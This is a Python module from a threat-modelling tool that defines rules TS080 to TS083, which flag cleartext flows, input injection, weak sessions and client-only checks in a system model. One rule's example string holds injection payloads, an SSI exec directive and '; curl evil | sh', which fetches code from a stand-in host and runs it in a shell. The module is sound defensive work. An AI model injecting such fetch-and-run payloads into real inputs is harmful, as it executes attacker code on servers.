"""Suggestion rules that read stated controls (TS080-TS119): a target that lists its
``controls`` says the others are absent, and these rules fire on an absent one. A target that
lists none (the key not given) is never read as lacking anything: these rules stay silent.

They follow pytm's conditions ("target class X and control C is False"), grouped where pytm
ids share a condition and a STRIDE letter. Imported at the end of :mod:`.catalogue`, they
register into its ``CATALOGUE``.
"""

from __future__ import annotations

from collections.abc import Iterator

from .catalogue import _exposed, _impact, _rating, _simple, _untrusted_text
from .facts import Facts
from .rule import Hit, rule

__all__: list[str] = []


@rule("TS080", "cleartext-flow", "I", "flow",
      "Data on {subject} read in transit",
      facts="A flow that states its `controls`, is `encrypted: false` and not `vpn` (TS009 "
      "speaks instead for a boundary-crossing flow carrying data rated high or above). "
      "Likelihood medium when it crosses a trust boundary, low inside one.",
      why="Plain traffic is read by whoever sits on the path: a compromised host in the same "
      "network, a mirrored port, a proxy; what it carries includes session cookies and tokens "
      "beside the data the model names.",
      example="A foothold in the VPC captures the web tier's unencrypted queries to the "
      "database, bind credentials included.",
      addresses="TLS 1.2+ (mTLS inside) with certificate validation, or a VPN; state it with "
      "`encrypted: true` or `vpn: true`.",
      references=("CWE-319", "CAPEC-157", "CAPEC-117", "ASVS V9.1",
                  "OWASP Transport Layer Security Cheat Sheet"),
      pytm=("DE01", "DE03"), threagile=("unencrypted-communication",))
def _cleartext(f: Facts) -> Iterator[Hit]:
    for flow in f.model.flows:
        if flow.controls is None or flow.encrypted is not False or flow.vpn:
            continue
        if f.crosses(flow) and f.sensitive(f.carried(flow)):
            continue  # TS009
        likelihood = "medium" if f.crosses(flow) else "low"
        impact, why_i = _impact(f, f.carried(flow), "low")
        reason = (f"{f.entry(flow)}; it states its controls, with `encrypted: false` and "
                  f"{'`vpn: false`' if flow.vpn is False else 'no VPN stated'}")
        yield Hit(flow.id, f"`{flow.label or flow.id}`", reason, likelihood, impact, _rating(
            likelihood, "it crosses a trust boundary" if f.crosses(flow) else
            "it takes a foothold inside the boundary", impact, why_i))


@rule("TS081", "injection-runs-code", "E", "process",
      "Input from outside runs as code or commands in {subject}",
      facts="A process (not AI) that reads input from outside (a flow from an external "
      "entity, from a process that takes input from outside, or a store such a process "
      "writes) and states its `controls` without `input-validation`, `input-sanitization` or "
      "`input-bounds-checking`. Likelihood medium when the input comes directly, low when "
      "it comes through a store or another process.",
      why="Input that reaches an interpreter, a shell, a format string or a fixed-size buffer "
      "unchecked becomes code: server-side includes, command delimiters, format strings, "
      "overflows and code injection all run what the attacker wrote.",
      example="A comment containing `<!--#exec cmd=\"id\"-->` or `; curl evil | sh` is "
      "executed when the server (or a clean-up job reading it from the database) handles it.",
      addresses="Validate input against a schema at every entry (type, length, allow-list), "
      "never pass it to shells, eval or format strings, bounded copies, least privilege for "
      "the process; then list the controls in `controls`.",
      references=("CWE-94", "CWE-77", "CWE-78", "CWE-134", "CWE-120", "CWE-97", "CAPEC-242",
                  "CAPEC-88", "CAPEC-101", "ASVS V5.2", "OWASP Injection Prevention Cheat Sheet"),
      pytm=("INP03", "INP05", "INP08", "INP12", "INP13", "INP24", "INP26", "INP34"),
      threagile=())
def _runs_code(f: Facts) -> Iterator[Hit]:
    exposed = {e.id for e, _, _ in _exposed(f)}
    for e in f.of_type("process"):
        if e.technology_kind == "ai":
            continue
        absent = f.missing(e, "input-validation", "input-sanitization", "input-bounds-checking")
        text_in = _untrusted_text(f, e) if absent else None
        if text_in:
            likelihood = "medium" if e.id in exposed else "low"
            yield _simple(f, e, f"{absent}; {text_in}", likelihood,
                          "the input is the attacker's" if likelihood == "medium" else
                          "the input arrives indirectly", "high", "handles")


@rule("TS082", "weak-sign-in-or-session", "S", "process",
      "Users of {subject} impersonated through guessed sign-ins or forged sessions",
      facts="A process (not AI) with a flow from an element `used_by_humans` that states its "
      "`controls` without `strong-session-ids` or `authentication-scheme`.",
      why="Where sign-in is home-made and session ids are predictable or not rotated, an "
      "attacker guesses passwords with a dictionary, predicts or fixes a session id, or "
      "replays a stolen one, and is the user.",
      example="Session ids are a counter in a cookie: incrementing it shows another user's "
      "account.",
      addresses="A standard authentication scheme (a vetted library or identity provider), "
      "long random session ids rotated at sign-in and verified on every request, MFA; then "
      "list `authentication-scheme` and `strong-session-ids` in `controls`.",
      references=("CWE-384", "CWE-330", "CWE-307", "CWE-287", "CAPEC-196", "CAPEC-59",
                  "CAPEC-593", "CAPEC-16", "OWASP Session Management Cheat Sheet", "ASVS V3.2"),
      pytm=("AC11", "AC16", "AC17", "AA03", "CR03"), threagile=())
def _sign_in(f: Facts) -> Iterator[Hit]:
    for e in f.of_type("process"):
        if e.technology_kind == "ai":
            continue
        absent = f.missing(e, "strong-session-ids", "authentication-scheme")
        flow = f.human_flow(e)
        if absent and flow is not None:
            yield _simple(f, e, f"{absent}; people use `{flow.source}`, which sends it flow "
                          f"`{flow.id}`", "medium", "session and password attacks are "
                          "tooled", "high", "handles")


@rule("TS083", "client-side-checks-trusted", "T", "process",
      "Checks done by the client bypassed at {subject}",
      facts="A process (not AI) with a flow from an element `used_by_humans` that states its "
      "`controls` without `server-side-validation`.",
      why="Whatever the client enforces (hidden fields, disabled buttons, a script that "
      "checks lengths or roles) the user can remove: only the server's own checks hold.",
      example="The browser's script blocks comments over 500 characters and links; a request "
      "sent without the page posts both.",
      addresses="Repeat every check on the server (`server-side-validation`), treat the "
      "client's values as requests, never as facts.",
      references=("CWE-602", "CWE-471", "CAPEC-22", "CAPEC-207", "ASVS V1.5"),
      pytm=("AA04", "SC05"), threagile=())
def _client_checks(f: Facts) -> Iterator[Hit]:
    for e in f.of_type("process"):
        if e.technology_kind == "ai":
            continue
        absent = f.missing(e, "server-side-validation")
        flow = f.human_flow(e)
        if absent and flow is not None:
            yield _simple(f, e, f"{absent}; people use `{flow.source}`, which sends it flow "
                          f"`{flow.id}`", "medium", "the client is the user's to change",
                          "medium", "handles")
